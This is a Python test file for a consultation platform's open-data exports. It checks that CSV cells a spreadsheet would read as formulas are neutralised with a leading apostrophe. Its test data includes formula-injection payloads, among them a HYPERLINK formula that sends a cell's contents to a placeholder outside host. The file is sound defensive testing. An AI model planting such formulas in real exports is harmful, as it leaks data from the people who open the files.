"""CSV injection (OWASP ASVS 5.3.x): a free-text cell a spreadsheet would read as a formula
is written with a leading single quote in every open-data CSV; numbers, dates and the JSON
API are unchanged; the packages say so and still validate."""

from __future__ import annotations

import csv
import io
from uuid import uuid4

from engage.opendata import REGISTRY, query
from tests.common.consultations import contribute, create_consultation
from tests.common.opendata import every_export, services, unzip, validate, write_package

FORMULAS = ['=HYPERLINK("https://exemple.invalid/?x="&A1;"cliquez")', "+1+1", "-2", "@SUM(A1:A9)",
            "\tx tabulation", "\rx retour chariot"]
HARMLESS = "Une proposition = ordinaire, -2 au milieu"


def _seed(testapp):
    engage = services(testapp)
    consultation = create_consultation(engage.app)
    ids = {}
    for text in [*FORMULAS, HARMLESS]:
        item = contribute(engage.app, consultation, text=text).id
        ids[item.hex] = text
    for _ in range(6):
        engage.app.cast_vote(person_id=uuid4(), item_id=item, option="d-accord", has_valid_card=True)
    engage.engine.catch_up()
    return consultation, ids


def _rows(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def test_formula_cells_are_neutralized_in_the_contributions_csv(testapp, tmp_path):
    consultation, ids = _seed(testapp)
    published = {row["contribution_id"]: row["text"] for row in
                 testapp.get(f"/api/contributions?consultation={consultation.hex}").json["data"]}
    # The JSON API publishes the text as typed (JSON is not a spreadsheet).
    for key, text in ids.items():
        assert published[key] == text.strip() or published[key] == text, (published[key], text)
    starting = [text for text in published.values() if text and text[0] in "=+-@\t\r"]
    assert {text[0] for text in starting} >= {"=", "+", "-", "@"}, starting

    body = testapp.get("/opendata/contributions/contributions.csv").body
    rows = {row["contribution_id"]: row for row in _rows(body)}
    for key in ids:
        typed = published[key]
        cell = rows[key]["text"]
        if typed[0] in "=+-@\t\r":
            assert cell == "'" + typed, (cell, typed)
        else:
            assert cell == typed
    assert rows[next(k for k, t in ids.items() if t == HARMLESS)]["text"] == HARMLESS
    # numbers stay numbers: the vote count of the last contribution is 6, not '6
    assert {row["agree"] for row in rows.values()} >= {"6", "0"}

    package = testapp.get("/opendata/contributions/datapackage.json").json
    resource = next(r for r in package["resources"] if r["name"] == "contributions")
    assert "apostrophe" in resource["description"] and "apostrophe" in package["description"]
    assert "apostrophe" in " ".join(testapp.get("/opendata").html.text.split())
    validate(write_package(testapp, "contributions", tmp_path / "contributions"))
    validate(unzip(testapp.get("/opendata/contributions.zip").body, tmp_path / "zip"))


def test_no_csv_of_any_dataset_starts_a_text_cell_with_a_formula(testapp):
    _seed(testapp)
    exports = every_export(testapp)
    checked = 0
    for dataset in REGISTRY:
        body = exports[f"/opendata/{dataset.name}/{dataset.csv_name}"]
        free = [f.name for f in dataset.fields if f.free_text]
        numbers = [f.name for f in dataset.fields if f.type in ("integer", "number")]
        for row in _rows(body):
            for name in free:
                assert not row[name][:1] or row[name][0] not in "=+-@\t\r", (dataset.name, name, row[name])
                checked += row[name].startswith("'")
            for name in numbers:
                assert row[name] == "" or float(row[name]) is not None
    assert checked >= 4  # =, +, -, @ (the domain strips a leading tab or carriage return)


def test_the_csv_writer_neutralizes_string_cells_only():
    contributions = REGISTRY.get("contributions")
    text = contributions.field("text")
    for typed in FORMULAS + ["\tx", "\rx", "=1+1", "-", "@"]:
        assert query.csv_value(text, typed) == "'" + typed
    assert query.csv_value(text, HARMLESS) == HARMLESS
    assert query.csv_value(text, "") == "" and query.csv_value(text, None) == ""
    agree = contributions.field("agree")
    assert agree.type == "integer" and query.csv_value(agree, -2) == "-2"
    assert all(not f.free_text for f in contributions.fields if f.enum or f.type != "string")
